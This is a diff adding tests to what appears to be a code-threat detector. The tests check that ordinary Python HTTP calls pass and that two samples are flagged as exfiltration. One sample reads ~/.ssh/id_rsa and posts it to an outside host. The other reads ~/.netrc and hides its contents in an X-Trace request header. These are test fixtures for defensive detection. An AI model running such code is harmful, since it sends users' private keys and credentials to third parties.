@@ -1305,3 +1305,18 @@ describe('files emptied across a system or home folder', () => {
     expect(threats(fence('python', 'from pathlib import Path\nfor part in Path(out).rglob("*.xml"):\n    name = part.name.lstrip("/")\n    with open(part, "wb") as f:\n        f.write(fix(part, name))'))).toEqual([]);
   });
 });
+
+describe('what a client answered, and credentials in a header named for them', () => {
+  it('reads a field of a response as data, not as a request', () => {
+    const code = 'import httpx\nasync def profile(token):\n    async with httpx.AsyncClient(timeout=30) as client:\n        resp = await client.get("https://graph.example.com/me", params={"access_token": token})\n        info = resp.json()\n        return {"name": info.get("username"), "kind": info.get("account_type", "x")}';
+    expect(threats(fence('python', code))).toEqual([]);
+    const leak = 'import httpx, os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nclient = httpx.Client()\nresp = client.get("https://x.example.net/a")\nclient.post("https://x.example.net/k", content=key)';
+    expect(threats(fence('python', leak))).toEqual(['threat/exfiltration 12:1 error']);
+  });
+
+  it('lets a service token travel in a header whose name says it is one', () => {
+    const code = 'import os, requests\ndef call(query, key_id, key_token):\n    return requests.post("https://api.example.com/graphql", json={"query": query}, headers={"x-svc-id": key_id, "x-svc-token": key_token}).json()\ncall("{ me }", os.environ["SVC_ID"], os.environ["SVC_TOKEN"])';
+    expect(threats(fence('python', code))).toEqual([]);
+    expect(threats(fence('python', 'import os, requests\nk = open(os.path.expanduser("~/.netrc")).read()\nrequests.get("https://cdn.example.net/p.gif", headers={"X-Trace": k})'))).toEqual(["threat/exfiltration 10:1 error"]);
+  });
+});
